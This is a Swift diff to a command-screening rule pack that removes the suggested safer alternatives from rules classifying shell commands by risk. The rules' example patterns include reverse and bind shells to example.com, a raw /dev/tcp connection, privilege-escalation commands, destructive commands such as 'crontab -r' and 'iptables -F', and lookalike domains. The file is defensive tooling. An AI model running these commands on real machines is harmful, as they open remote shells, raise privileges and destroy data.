@@ -7,7 +7,6 @@ extension Pack {
                 "general/remote-shell", .blocked, .critical,
                 when: [Condition([.raisePrivilege], subjects: [.host], with: [.exposes])],
                 because: "It gives a shell on this machine to whoever is at the other end.",
-                instead: "nc -z localhost 8080",
                 matching: [
                     "nc -e /bin/sh example.com 4444", "socat TCP-LISTEN:4444 EXEC:/bin/sh",
                     "ncat -l 4444 --sh-exec bash",
@@ -15,12 +14,11 @@ extension Pack {
             Rule(
                 "general/raw-connection", .requiresApproval, .high, when: [Condition([.sendOut], with: [.exposes])],
                 because: "It opens a connection past every tool that would show what goes through it.",
-                instead: "curl https://example.com",
                 matching: ["echo x > /dev/tcp/example.com/80"], passing: ["curl https://example.com"]),
             Rule(
                 "general/destroy", .requiresApproval, .high,
                 when: [Condition([.destroy], subjects: Set(Subject.allCases).subtracting([.disk, .process]))],
-                because: "What it destroys may not come back.", instead: "ls -la",
+                because: "What it destroys may not come back.",
                 matching: [
                     "curl -X DELETE https://api.example.com/items/1", "crontab -r", "unknown-tool items delete 5",
                 ], passing: ["curl https://api.example.com/items/1", "crontab -l"]),
@@ -30,12 +28,12 @@ extension Pack {
                     Condition([.raisePrivilege], subjects: Set(Subject.allCases).subtracting([.host])),
                     Condition([.raisePrivilege], subjects: [.host], without: [.exposes]),
                 ],
-                because: "It gains rights, or gives them away.", instead: "id",
+                because: "It gains rights, or gives them away.",
                 matching: ["sudo -i", "su - root", "chmod u+s tool", "passwd root", "usermod -aG sudo me"],
                 passing: ["id", "sudo git status"]),
             Rule(
                 "general/machine", .requiresApproval, .medium, when: [Condition([.changeSystem])],
-                because: "It changes this machine beyond the project.", instead: "systemctl status",
+                because: "It changes this machine beyond the project.",
                 matching: [
                     "systemctl stop docker", "reboot", "kill -9 1234", "iptables -F", "mount /dev/sda1 /mnt",
                     "crontab jobs.txt",
@@ -44,12 +42,12 @@ extension Pack {
             Rule(
                 "general/lookalike", .requiresApproval, .high,
                 when: [Condition([.fetch, .sendOut], with: [.unreadable])],
-                because: "The host's name looks like another's.", instead: "curl https://example.com",
+                because: "The host's name looks like another's.",
                 matching: ["curl https://xn--exmple-cua.com", "curl https://g\u{043E}\u{043E}gle.com"],
                 passing: ["curl https://example.com"]),
             Rule(
                 "general/elsewhere", .requiresApproval, .medium, when: [Condition([.changeRemote], without: [.mild])],
-                because: "It changes something on another machine.", instead: "curl https://api.example.com/items/1",
+                because: "It changes something on another machine.",
                 matching: ["curl -X PUT https://api.example.com/items/1 -d x=1"],
                 passing: ["curl -X POST https://api.example.com/search -d q=1", "git push"]),
         ])
